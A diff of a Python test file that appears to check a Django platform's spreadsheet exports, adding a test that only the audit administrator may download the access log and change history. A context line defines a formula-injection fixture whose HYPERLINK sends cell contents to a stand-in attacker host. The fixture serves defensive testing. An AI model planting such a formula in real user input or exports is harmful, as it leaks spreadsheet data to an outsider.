@@ -49,7 +49,10 @@ PERSONAS += ["secadmin", "auditadmin"]
 # What a stranger sends as a user name or browser (the access log's export shows both).
 STRANGER = '=HYPERLINK("http://evil.example/?leak="&A1,"登录")'
 # Spreadsheets behind an address whose name does not end in -export: (name, query).
-OTHER_EXPORTS = {"accounts:access-log": {"export": "xlsx"}}
+OTHER_EXPORTS = {
+    "accounts:access-log": {"export": "xlsx"},
+    "accounts:change-history": {"export": "xlsx"},
+}
 
 
 def _quiet(_line: str) -> None:
@@ -174,6 +177,23 @@ def test_the_walk_finds_the_exports_and_the_templates() -> None:
     assert "returns:return-export" in EXPORTS
     assert "projects:lead-export" in EXPORTS
     assert "accounts:access-log" in EXPORTS
+    assert "accounts:change-history" in EXPORTS
+
+
+@pytest.mark.parametrize("name", sorted(OTHER_EXPORTS))
+def test_only_the_audit_administrator_exports_the_audit_trail(name: str) -> None:
+    # 三员分立: the access log and the history of data changes leave the platform with the audit
+    # administrator only, neither the system nor the security administrator nor any office.
+    address, query = _address(name)
+    downloaded = set()
+    for username in PERSONAS:
+        client = Client()
+        client.force_login(User.objects.get(username=username))
+        response = client.get(address, query)
+        assert response.status_code in (200, 403, 404), (username, response.status_code)
+        if response.status_code == 200:
+            downloaded.add(username)
+    assert downloaded == {"auditadmin"}
 
 
 @pytest.mark.parametrize("name", EXPORTS)
